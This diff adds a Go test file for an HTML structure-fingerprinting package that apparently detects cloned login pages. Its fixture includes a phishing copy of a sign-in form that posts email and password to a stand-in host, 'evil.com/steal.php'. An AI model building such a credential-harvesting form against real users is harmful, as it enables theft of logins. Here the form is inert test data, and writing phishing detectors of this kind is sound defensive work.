@@ -0,0 +1,45 @@
+package structure
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+const login = `<html><head><title>Sign in</title></head><body><div class="box"><img src="logo.png">
+<form action="/login" method="post"><label>Email</label><input name="email"><label>Password</label>
+<input type="password" name="password"><button>Sign in</button></form><p>Forgot password?</p><a href="/help">Help</a></div>
+<footer><ul><li>Terms</li><li>Privacy</li></ul></footer></body></html>`
+
+func TestFingerprintSimilarity(t *testing.T) {
+	// same structure with different text, attributes and whitespace
+	clone := `<html><head><title>Login</title></head><body><div class="x"><img src="https://evil.com/logo.png"><form action="https://evil.com/steal.php" method="post">
+	<label>E-mail</label><input name="e"><label>Pass</label><input type="password" name="p"><button>Login</button></form>
+	<p>Lost?</p><a href="#">Help</a></div><footer><ul><li>Terms</li><li>Privacy</li></ul></footer></body></html>`
+	require.Equal(t, 1.0, New(login).Similarity(New(clone)), "wrong similarity with clone")
+
+	modified := strings.Replace(clone, "<button>", `<input type="hidden" name="t"><button>`, 1)
+	modified = strings.Replace(modified, "</ul>", "<li>Cookies</li></ul>", 1)
+	similarity := New(login).Similarity(New(modified))
+	require.Greater(t, similarity, 0.7, "wrong similarity with modified clone")
+	require.Less(t, similarity, 1.0, "wrong similarity with modified clone")
+
+	other := `<html><body><header><nav><ul><li><a>Home</a></li><li><a>Blog</a></li></ul></nav></header><main><article>
+	<h1>Title</h1><p>Text</p><table><tr><td>1</td></tr></table></article></main></body></html>`
+	require.Less(t, New(login).Similarity(New(other)), 0.2, "wrong similarity with other page")
+}
+
+func TestFingerprintDeterministic(t *testing.T) {
+	fingerprint := New(`<html><body><form><input name="user"><input type="password"></form></body></html>`)
+	require.Equal(t, "1a7b221c03a9054d021b0c6d07be282f062b02e708a52d671db50aea0e72017903a20e174df51d2a0477035a1814065c0ac814a41b12097a04150282123404f303d52a85233b31f711702d06085d1ae018b40250102c1f1b0aad491721060aa629b00bea05b6039b1a8731ad29103d181b1105f0000313211e941d9f16b51a12", fingerprint.String(), "wrong fingerprint")
+
+	parsed, err := Parse(fingerprint.String())
+	require.Nil(t, err, "could not parse fingerprint")
+	require.Equal(t, fingerprint, parsed, "wrong parsed fingerprint")
+
+	_, err = Parse("1a7b")
+	require.NotNil(t, err, "parsed truncated fingerprint")
+	_, err = Parse(strings.Repeat("zz", FingerprintLength/2))
+	require.NotNil(t, err, "parsed invalid fingerprint")
+}